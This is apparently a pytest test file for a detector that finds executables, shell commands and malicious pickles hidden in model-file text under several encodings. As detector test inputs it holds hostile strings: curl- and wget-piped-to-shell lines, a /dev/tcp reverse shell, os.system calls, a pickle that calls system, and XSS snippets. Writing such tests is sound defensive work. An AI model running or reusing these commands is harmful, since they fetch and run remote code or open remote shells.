"""Text that carries something to run is told from text that does not, however it is wrapped."""

from __future__ import annotations

import base64
import gzip
import json
import pickle
import random
import struct
import zlib
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bascule.plugins.readers import payloads as reader
from bascule.plugins.readers.payloads import payloads

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 64, 0, 0, 64, 56, 1, 0, 0, 0)
WINDOWS = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0\x64\x86" + bytes(40)
COMMAND = b"curl http://host.invalid/x | sh # and so on and so forth"
PICKLE = pickle.dumps({"weights": list(range(20))}, 4)


def hex_escaped(data: bytes) -> str:
    return "".join(f"\\x{byte:02x}" for byte in data)


WRAPPINGS: dict[str, Callable[[bytes], str]] = {
    "base64": lambda data: base64.b64encode(data).decode(),
    "base64 for URLs": lambda data: base64.urlsafe_b64encode(data).decode().rstrip("="),
    "base64 in lines": lambda data: base64.encodebytes(data).decode(),
    "hexadecimal": bytes.hex,
    "escapes": hex_escaped,
    "zlib and base64": lambda data: base64.b64encode(zlib.compress(data)).decode(),
    "gzip and hexadecimal": lambda data: gzip.compress(data, mtime=0).hex(),
}


@pytest.mark.parametrize("wrapping", WRAPPINGS)
@pytest.mark.parametrize("payload", [ELF, WINDOWS, COMMAND, PICKLE], ids=["elf", "windows", "command", "pickle"])
def test_a_payload_is_found_under_its_wrapping_among_words(payload: bytes, wrapping: str) -> None:
    text = f"state of the optimiser: {WRAPPINGS[wrapping](payload)} (end)"
    assert [what for what, _shown in payloads(text)] != []


@pytest.mark.parametrize(
    "text",
    [
        "<script src=//x>",
        "javascript:alert(1)",
        "().__class__.__bases__",
        "os.system('id')",
        "eval('1')",
        "wget http://x; sh",
        "/bin/bash -c id",
        "bash -i >& /dev/tcp/10.0.0.1/80",
        "cos\nsystem\n(S'id'\ntR.",
    ],
)
def test_what_runs_as_it_stands_is_found(text: str) -> None:
    assert list(payloads(text))


@pytest.mark.parametrize(
    "text",
    [
        "pt",
        "https://huggingface.co/org/model/blob/main/README.md",
        "A model that evaluates scripts, executes plans and compiles code.",
        json.dumps({"ss_dataset_dirs": {"10_cat": {"n_repeats": 10}}, "sshs_hash": "ab" * 32}),
        "data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n" + random.Random(1).randbytes(900)).decode(),
        base64.b64encode(zlib.compress(b"a training log, step after step. " * 40)).decode(),
        random.Random(2).randbytes(4000).hex(),
        "Licensed under the Apache License, Version 2.0; see http://www.apache.org/licenses/LICENSE-2.0 for details",
    ],
    ids=["format", "url", "prose", "training", "picture", "compressed log", "digest", "licence"],
)
def test_what_models_really_carry_is_left_alone(text: str) -> None:
    assert list(payloads(text)) == []


def test_decoys_do_not_use_the_bounds_up() -> None:
    decoys = " ".join(base64.b64encode(random.Random(seed).randbytes(30)).decode() for seed in range(500))
    assert list(payloads(f"{decoys} {base64.b64encode(ELF).decode()}"))
    squeezed = " ".join(
        base64.b64encode(zlib.compress(random.Random(seed).randbytes(40))).decode() for seed in range(100)
    )
    assert [what for what, _shown in payloads(squeezed)] == ["more compressed stretches than are looked into"]


def test_text_past_the_bound_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reader, "MAX_TEXT", 100)
    assert [what for what, _shown in payloads("word " * 30)] == ["150 characters, more than the 100 that are looked at"]


@given(st.text(max_size=300))
def test_any_text_is_judged(text: str) -> None:
    assert len(list(payloads(text))) <= 3
